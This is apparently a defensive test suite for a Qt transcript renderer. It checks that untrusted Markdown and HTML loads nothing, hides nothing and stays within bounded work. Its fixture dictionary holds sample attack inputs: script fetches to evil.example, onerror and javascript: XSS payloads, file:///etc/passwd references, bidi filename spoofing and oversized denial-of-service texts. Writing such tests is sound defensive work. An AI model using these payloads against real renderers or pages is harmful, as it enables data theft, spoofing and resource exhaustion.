"""Untrusted text: whatever it contains is drawn, loads nothing, hides nothing and takes bounded work."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PySide6.QtCore import QUrl
from PySide6.QtGui import QImage, QTextDocument

from tests.fakes.drawn import THEME, blocks, compose, runs
from ui.rendering.blocks import MAX_BLOCK_CHARS
from ui.rendering.document import TranscriptDocument
from ui.rendering.document_builder import DocumentBuilder
from ui.rendering.parser import MARKDOWN, PLAIN, Dialect

pytestmark = [pytest.mark.usefixtures("qapp"), pytest.mark.unmeasured]

ACTIVE = {
    "script": "<script>fetch('https://evil.example')</script>",
    "img tag": "<img src='https://evil.example/x.png' onerror='alert(1)'>",
    "img file": "<img src='file:///etc/passwd'>",
    "style import": "<style>@import url('file:///etc/passwd'); body{background:url(http://e.x)}</style>",
    "svg": "<svg onload=alert(1)><image href='https://evil.example/a.png'/></svg>",
    "css attribute": "<p style='background:url(https://evil.example/a)'>x</p>",
    "qt rich text": "<qt><a href='file:///etc/passwd'>x</a></qt>",
    "image": "![x](https://evil.example/a.png?secret) ![y](file:///etc/passwd) ![z](../../etc/passwd)",
    "image data": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "image qrc": "![x](qrc:/qt-project.org/x.png) ![y](:/x.png)",
    "image reference": "![x][r] [y][s]\n\n[r]: https://evil.example/a.png\n[s]: file:///etc/passwd",
    "image in link": "[![x](https://evil.example/a.png)](https://evil.example)",
    "images nested": "![![![x](https://a.x/1)](https://a.x/2)](https://a.x/3)",
    "javascript": "[x](javascript:alert(1)) [y](JaVaScRiPt:a) [z](&#106;avascript:a) [w](vbscript:x)",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "file link": "[x](file:///etc/passwd) <file:///etc/passwd>",
    "bidi": "\u202eevil\u202c \u2067x\u2069 [\u202egpj.exe](https://a.x/\u202egpj.exe)",
    "tags": "hi\U000e0041\U000e0042\U000e007f there",
    "zero width": "a\u200bb\u200cc\u200dd\ufeffe",
    "controls": "".join(map(chr, range(32))) + "\x7f\x80\x9f",
    "qt markers": "a\ufdd0b\ufdd1c\ufffcd\u2028e\u2029f",
    "surrogate": "a\ud800b \udfff a\x00b",
    "link title": "[x](https://a.x 'javascript:alert(1)')",
    "autolink": "<javascript:alert(1)> <https://a.x/<script>>",
    "math": "$\\href{javascript:alert(1)}{x}$ $$\\includegraphics{/etc/passwd}$$",
    "language": "```<script>alert(1)</script>\nx\n```",
    "footnote html": "[^<b>]\n\n[^<b>]: <script>x</script>",
}
SIGNS = "[ ] ( ) ! * ** _ ` ``` \n \n\n > - 1. | |-|\n $ $$ \\( \\) [^1] [^1]: # ~~ < a"
LARGE = {
    "line without spaces": "a" * 400_000,
    "line of words": "word " * 80_000,
    "table of 20,000 rows": "|a|b|\n|-|-|\n" + "|1|2|\n" * 20_000,
    "table of 2,000 columns": "|" + "a|" * 2000 + "\n|" + "-|" * 2000 + "\n|" + "1|" * 2000,
    "table in a quote": "> |a|\n> |-|\n" + "> |1|\n" * 2000,
    "quotes 10,000 deep": ">" * 10_000 + " deep",
    "lists 10,000 deep": "- " * 10_000 + "x",
    "indented lists": "".join("  " * depth + "- x\n" for depth in range(1000)),
    "mixed nesting": "".join("> - " * (depth % 40) + "x\n" for depth in range(400)),
    "unclosed fence": "```python\n" + "x = 1\n" * 30_000,
    "unclosed fence of one line": "```python\n" + "x" * 300_000,
    "brackets": "[" * 50_000,
    "links": "[a](" * 20_000,
    "alternating stars": "a**b" + "c* " * 20_000,
    "backticks": "".join("`" * length + "a" for length in range(1, 300)),
    "nested pictures": "![a" * 5000 + "](b)" * 5000,
    "dollars": "$a" * 30_000,
    "display mathematics": "$$\n" * 5000,
    "fractions": "$" + "\\frac{" * 1500 + "$",
    "definitions": "".join(f"[r{n}]: http://x/{n}\n" for n in range(5000)) + "[r1]",
    "footnotes": "".join(f"[^{n}]: note {n}\n\n" for n in range(1500)),
    "hard breaks": "a  \n" * 10_000,
    "rules": "---\n" * 5000,
    "headings": "# a\n" * 5000,
    "lazy quote": "> a\n" + "b\n" * 10_000,
    "combining marks": "a" + "\u0301" * 50_000,
    "right to left": "\u202e\u2067\u05d0" * 10_000,
    "code of quotes": "```python\n" + "'" * 900 + "\n" + '"""' * 300 + "\n```",
}
LARGE_PLAIN = ("line without spaces", "line of words", "table of 20,000 rows", "unclosed fence",
               "unclosed fence of one line", "backticks", "hard breaks", "combining marks")  # fmt: skip


@pytest.mark.parametrize("dialect", [MARKDOWN, PLAIN], ids=["markdown", "plain"])
@pytest.mark.parametrize("payload", ACTIVE.values(), ids=ACTIVE.keys())
def test_nothing_is_loaded_and_nothing_is_hidden(payload: str, dialect: Dialect) -> None:
    document = compose(payload, dialect).document
    document.setTextWidth(500)
    assert document.size().height() > 0
    assert document.refused == []
    text = document.toPlainText()
    assert not set(text) & set("\u202e\x00\x07\x7f\ufdd1") - {"\n"}
    assert not any(0xE0000 <= ord(char) <= 0xE007F for char in text)
    if payload.startswith("<"):
        assert payload.split(">", maxsplit=1)[0] in text, "HTML is shown as it was written"


@pytest.mark.parametrize("name", ["javascript", "data link", "file link"])
def test_a_link_that_could_act_is_no_link(name: str) -> None:
    targets = {run[5] for each in blocks(compose(ACTIVE[name]).document) for run in runs(each)}
    assert targets <= {""}


@pytest.mark.parametrize(
    "target", ["file:///etc/passwd", "/etc/passwd", "https://a.x/a.png", "qrc:/x", "attachment:..%2fx"]
)  # fmt: skip
def test_the_document_refuses_to_load_whatever_is_requested(target: str) -> None:
    document = TranscriptDocument(THEME, lambda _name: QImage(1, 1, QImage.Format.Format_RGB32))
    for kind in QTextDocument.ResourceType:
        assert document.resource(kind.value, QUrl(target)) is None
    assert set(document.refused) == {QUrl(target).toString()}


@pytest.mark.parametrize(
    ("payload", "dialect"),
    [pytest.param(text, MARKDOWN, id=name) for name, text in LARGE.items()]
    + [pytest.param(LARGE[name], PLAIN, id=f"{name}, plain") for name in LARGE_PLAIN],
)
def test_large_texts_cost_no_more_than_a_page(payload: str, dialect: Dialect) -> None:
    builder = DocumentBuilder(THEME, dialect)
    builder.feed(payload)
    builder.end()
    worst = steps = before = 0
    while builder.step():
        steps += 1
        worst, before = (
            max(worst, builder.writer.blocks_written - before),
            builder.writer.blocks_written,
        )
    assert worst <= 1600
    assert builder.writer.blocks_written <= 9000
    assert steps <= 1500
    assert max(each.length() for each in blocks(builder.document)) <= MAX_BLOCK_CHARS + 500


@pytest.mark.parametrize(
    ("name", "word"),
    [("line of words", "word"), ("unclosed fence", "x = 1"), ("quotes 10,000 deep", "deep"),
     ("lists 10,000 deep", "x")],
)  # fmt: skip
def test_nothing_is_lost_between_pages_or_in_deep_nesting(name: str, word: str) -> None:
    builder = compose(LARGE[name], pages=100)
    assert not builder.has_more
    assert builder.document.toPlainText().count(word) == LARGE[name].count(word)


@given(
    st.text(max_size=300)
    | st.lists(st.sampled_from(SIGNS.split(" ")), max_size=80).map(" ".join)
)  # fmt: skip
def test_any_text_can_be_drawn(text: str) -> None:
    builder = compose(text)
    builder.document.setTextWidth(300)
    assert builder.document.size().height() >= 0
    assert builder.document.refused == []
    assert not builder.has_more
